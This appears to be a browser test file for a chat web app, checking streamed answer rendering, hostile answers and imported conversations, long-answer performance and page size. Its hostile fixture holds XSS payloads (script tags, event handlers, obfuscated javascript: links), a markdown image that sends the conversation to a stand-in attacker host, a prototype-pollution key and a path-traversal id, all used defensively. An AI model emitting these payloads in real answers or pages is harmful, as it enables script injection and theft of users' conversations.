// The chat page with scripted answers: streaming, hostile text, long answers, page weight.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Browser, Page } from "playwright-core";
import type { RunningServer } from "../../apps/server/serve.ts";
import { buildPage } from "../../apps/web/bundle.ts";
import {
  answered,
  hasBrowser,
  openBrowser,
  openPage,
  realServer,
  scriptedServer,
  send,
  shown,
} from "./support.ts";

/** Words of a text as a model would give them. */
const pieces = (text: string): string[] => text.match(/\s*\S{1,6}|\s+/g) ?? [];

async function* paced(text: string, each: number, ms: number): AsyncGenerator<string[]> {
  const all = pieces(text);
  for (let i = 0; i < all.length; i += each) {
    yield all.slice(i, i + each);
    await Bun.sleep(ms);
  }
}

const hostile = `<script>window.hacked = 1</script>

<img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>

<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>

![secret](https://evil.example/steal?what=conversation) ![local](/flush_cache)

[run](javascript:window.hacked=4) [data](data:text/html,<script>1</script>) [here](/flush_cache)
[vb](vbscript:1) [upper](JaVaScRiPt:window.hacked=5) [tab](java\\tscript:window.hacked=6)

[https://bank.example/login](https://evil.example/login) [fine](https://docs.example/page)

<a href="javascript:window.hacked=7" onclick="window.hacked=8">click</a>

- <details open ontoggle="window.hacked=9"><summary>x</summary></details>
- \`<b>code</b>\`

| <img src=x onerror=window.hacked=10> | a |
|---|---|
| &lt;script&gt; | <br> |

${">".repeat(5000)} deep

${"**a *b ".repeat(2000)}
`;

/** About 5,000 pieces of all kinds of blocks. */
function longAnswer(): string {
  const paragraph = "The quiet river ran past the mill and **over** the stones to `the sea`. ";
  const section = (i: number): string => `## Part ${i}

${paragraph.repeat(5)}

- one thing
- another *thing*
  1. inner

\`\`\`ts
const part = ${i};
function add(a: number, b: number): number {
  return a + b;
}
\`\`\`

| name | value |
|------|------:|
| part | ${i} |

`;
  let text = "";
  for (let i = 1; pieces(text).length < 5000; i++) text += section(i);
  return text;
}

interface Frames {
  readonly times: number[];
  /** Milliseconds of each task of the page that took longer than 50. */
  readonly long: number[];
  /** Changes within the first blocks, which were whole when watching began. */
  touched: number;
}

/** Records the time of every frame, and changes to blocks that were finished. */
async function watchFrames(page: Page): Promise<void> {
  await page.evaluate(() => {
    const frames: Frames = { times: [], long: [], touched: 0 };
    new PerformanceObserver((list) => {
      for (const { duration } of list.getEntries()) frames.long.push(duration);
    }).observe({ type: "longtask" });
    Object.assign(window, { frames });
    const tick = (time: number): void => {
      frames.times.push(time);
      requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
    const wait = setInterval(() => {
      const blocks = [...document.querySelectorAll(".assistant .markdown > *")];
      if (blocks.length < 12) return;
      clearInterval(wait);
      const observer = new MutationObserver((list) => {
        frames.touched += list.length;
      });
      const all = { subtree: true, childList: true, characterData: true, attributes: true };
      for (const block of blocks.slice(0, 8)) observer.observe(block, all);
    }, 10);
  });
}

if (hasBrowser) {
  describe("chat page, scripted answers", () => {
    let real: RunningServer;
    let browser: Browser;
    beforeAll(async () => {
      [real, browser] = await Promise.all([realServer(), openBrowser()]);
    });
    afterAll(async () => {
      await browser.close();
      await real.stop();
    });

    async function withAnswer(
      script: () => AsyncIterable<string[]>,
      use: (page: Page, trouble: string[]) => Promise<void>,
    ): Promise<void> {
      const server = scriptedServer(real, script);
      const { page, trouble, close } = await openPage(browser, server.url);
      await use(page, trouble);
      await close();
      await server.stop();
    }

    test("shows tokens one by one", async () => {
      const text = "one two three four five six seven eight nine ten eleven twelve";
      await withAnswer(
        () => paced(text, 1, 60),
        async (page) => {
          await page.evaluate(() => {
            const seen: string[] = [];
            Object.assign(window, { seen });
            new MutationObserver(() => {
              const text = document.querySelector(".assistant .markdown")?.textContent ?? "";
              if (text !== (seen.at(-1) ?? "")) seen.push(text);
            }).observe(document.body, { subtree: true, childList: true, characterData: true });
          });
          await send(page, "Count.");
          await answered(page);
          const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
          expect(seen.at(-1)).toBe(text);
          expect(seen.length).toBeGreaterThan(6);
          for (const part of seen) expect(text.startsWith(part)).toBe(true);
        },
      );
    });

    test("a hostile answer does nothing", async () => {
      await withAnswer(
        () => paced(hostile, 40, 1),
        async (page, trouble) => {
          await send(page, "Attack.");
          await answered(page);
          const found = await page.evaluate(() => {
            const answer = document.querySelector(".assistant") as Element;
            return {
              hacked: (window as unknown as { hacked?: number }).hacked,
              bad: answer.querySelectorAll("script, img, iframe, object, style, a[onclick]").length,
              links: [...answer.querySelectorAll("a")].map((link) => link.href),
              rel: [...answer.querySelectorAll("a")].every((a) => a.rel === "noopener noreferrer"),
              handlers: [...answer.querySelectorAll("*")].filter((element) =>
                [...element.attributes].some(({ name }) => name.startsWith("on")),
              ).length,
            };
          });
          expect(found).toEqual({
            hacked: undefined,
            bad: 0,
            links: [
              "https://evil.example/steal?what=conversation",
              "https://evil.example/login",
              "https://docs.example/page",
            ],
            rel: true,
            handlers: 0,
          });
          const text = await shown(page, ".assistant .markdown");
          expect(text).toContain("<script>window.hacked = 1</script>");
          // A link whose text names another host tells its own.
          expect(text).toContain("https://bank.example/login (evil.example)");
          expect(trouble).toEqual([]);
        },
      );
    });

    test("a hostile imported conversation does nothing", async () => {
      const { page, trouble, close } = await openPage(browser, real.url);
      const turns = [
        { role: "user", text: `<img src=x onerror="window.hacked=1">${hostile}` },
        {
          role: "assistant",
          answers: [{ text: hostile, error: hostile, finish: "error" }],
          shown: 0,
        },
      ];
      const title = `<img src=x onerror="window.hacked=2">`;
      const conversations = [{ title, turns, __proto__: null, id: "../../x" }];
      const file = { format: "wrinklefree-conversations", version: 1, conversations };
      await page.getByLabel("File to import").setInputFiles({
        name: "hostile.json",
        mimeType: "application/json",
        buffer: Buffer.from(JSON.stringify(file)),
      });
      await page.getByText("Imported a conversation.").waitFor();
      await page.locator(".assistant .markdown").waitFor();
      const found = await page.evaluate(() => [
        (window as unknown as { hacked?: number }).hacked,
        document.querySelectorAll("script:not([src]), img, iframe, object, style").length,
      ]);
      expect(found).toEqual([undefined, 0]);
      expect(trouble).toEqual([]);
      await close();
    });

    test("5,000 tokens stream without redrawing what is finished", async () => {
      const text = longAnswer();
      await withAnswer(
        () => paced(text, 8, 5),
        async (page, trouble) => {
          await watchFrames(page);
          const start = performance.now();
          await send(page, "Write a lot.");
          await answered(page);
          const seconds = (performance.now() - start) / 1000;
          const frames = await page.evaluate(
            () => (window as unknown as { frames: Frames }).frames,
          );
          const gaps = frames.times.slice(1).map((time, i) => time - (frames.times[i] ?? 0));
          const sorted = gaps.toSorted((a, b) => a - b);
          const at = (part: number): string =>
            (sorted[Math.floor(part * sorted.length)] ?? 0).toFixed(1);
          const late = gaps.filter((gap) => gap > 25).length;
          console.log(
            `web: ${pieces(text).length} tokens in ${seconds.toFixed(1)} s, ${gaps.length} frames, ` +
              `${late} late, ${frames.long.length} tasks over 50 ms; milliseconds a frame: median ${at(0.5)}, 99 % ${at(0.99)}, longest ${at(0.9999)}`,
          );
          expect(frames.touched).toBe(0);
          expect(await page.locator(".assistant .markdown > *").count()).toBeGreaterThan(100);
          expect(trouble).toEqual([]);
        },
      );
    });
  });
}

test("the page weighs little", async () => {
  const files = await buildPage();
  const size = (bytes: Uint8Array<ArrayBuffer>): number => Bun.gzipSync(bytes).length;
  const packed = files.reduce((sum, { bytes }) => sum + size(bytes), 0);
  const whole = files.reduce((sum, { bytes }) => sum + bytes.length, 0);
  console.log(
    `web: the page weighs ${(packed / 1000).toFixed(1)} kB (${(whole / 1000).toFixed(0)} kB unpacked)`,
  );
  expect(files.map(({ name }) => name.replace(/-\w+\./, ".")).toSorted()).toEqual([
    "index.css",
    "index.html",
    "index.js",
  ]);
  expect(packed).toBeLessThan(64_000);
});
